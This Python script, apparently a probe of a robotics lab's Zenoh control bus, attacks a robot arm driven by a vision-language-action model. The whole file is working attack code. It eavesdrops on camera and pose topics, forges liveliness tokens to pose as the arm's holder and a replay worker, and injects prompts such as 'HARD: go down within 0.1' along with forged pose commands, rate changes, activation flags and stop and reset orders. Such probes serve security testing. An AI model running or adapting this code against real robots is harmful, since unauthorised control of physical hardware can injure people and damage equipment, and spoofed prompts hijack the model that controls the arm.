"""Run on a host of the lab: try to read everything and to move the arm, with what one has.

    attack.py CONFIG.json ROBOT WORKER     Zenoh's configuration, the robot's and a worker's name

Prints whether a session was to be had, what was heard on which key, and whether anybody answered.

First it does what moves an arm, if it is heard: a prompt that the model knows, an activation, and
the tokens of whoever lives and holds. Then it stops the arm, takes the stop back and puts the
simulation to its beginning. Last it speaks for others, and leaves its mark.
"""

from __future__ import annotations

import json
import sys
import time
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from functools import partial
from pathlib import Path
from typing import Any

import numpy as np
import zenoh

from vla_zenoh.codec import records
from vla_zenoh.keys import Keys
from vla_zenoh.types import Header, PoseCommand

LISTEN_S = 3.0
MARK = "stranger"
"""In what the attacker says, so that others can tell it came through."""
MOTION, RATE = "HARD: go down within 0.1", "7"
"""An arm of the lab does neither by itself, and can do both."""
MOVE_S, MOVE_PERIOD_S = 3.0, 0.1
TAKE_S = 0.5
"""For each of the orders that follow each other."""

Put = Callable[[str, Any], None]


def main(config: str, robot: str, worker: str) -> None:
    keys = Keys(robot)
    heard: Counter[str] = Counter()
    try:
        session = zenoh.open(zenoh.Config.from_json5(Path(config).read_text()))
    except zenoh.ZError as error:
        print(json.dumps({"opened": False, "why": str(error)[:300], "heard": {}, "answers": 0}))
        return
    with session:

        def take(sample: zenoh.Sample) -> None:
            heard[keys.short(str(sample.key_expr))] += 1

        handler = zenoh.handlers.Callback(take, indirect=False)
        front = (keys.camera_raw("front"), keys.camera_jpeg("front"))
        wishes = (keys.all_keys, *front, keys.state_pose, keys.command_pose, keys.prompt)
        listening = [session.declare_subscriber(key, handler) for key in wishes]
        _seize(session, keys)
        for number in range(20):
            _speak(session, keys, worker, number)
            time.sleep(LISTEN_S / 20)
        asked = (keys.prompt, keys.task, keys.clock("command"))
        answers = sum(
            reply.ok is not None for key in asked for reply in session.get(key, timeout=1.0)
        )
        alive = sum(
            reply.ok is not None for reply in session.liveliness().get(keys.all_alive, timeout=1.0)
        )
        links = len(list(session.info.links()))
        for one in listening:
            one.undeclare()
    said = {"opened": True, "links": links, "heard": heard, "answers": answers, "alive": alive}
    print(json.dumps(said))


def _seize(session: zenoh.Session, keys: Keys) -> None:
    put = partial(session.put, allowed_destination=zenoh.Locality.REMOTE)
    tokens = []
    for key in (keys.holding(MARK), keys.alive(MARK), keys.alive("replay")):
        with suppress(zenoh.ZError):
            tokens.append(session.liveliness().declare_token(key))
    for _ in range(round(MOVE_S / MOVE_PERIOD_S)):
        put(keys.rate, RATE)
        put(keys.prompt, MOTION)
        put(keys.active, f"true while {MARK}")
        put(keys.active, "true")
        time.sleep(MOVE_PERIOD_S)
    for key in (keys.stop, keys.reset, keys.sim_reset):
        put(key, "")
        time.sleep(TAKE_S)
    for token in tokens:
        token.undeclare()


def _speak(session: zenoh.Session, keys: Keys, worker: str, number: int) -> None:
    put = partial(session.put, allowed_destination=zenoh.Locality.REMOTE)
    put(keys.prompt, f"HARD: go left {MARK}")
    put(keys.worker, MARK)
    put(keys.rate, "100")
    put(keys.active, "true")
    header = records.encode_header(Header(time.time_ns(), number, f"command#{MARK}"))
    aside, down, still = np.array([0.5, 0.3, 0.4]), np.array([1.0, 0.0, 0.0, 0.0]), np.zeros(6)
    pose = PoseCommand(aside, down, still, still, aside, down, MARK)
    put(keys.command_pose, records.encode(pose), attachment=header)
    put(keys.delta(worker), MARK.encode(), attachment=header)
    put(keys.status("command"), MARK.encode(), attachment=header)


if __name__ == "__main__":
    main(*sys.argv[1:])
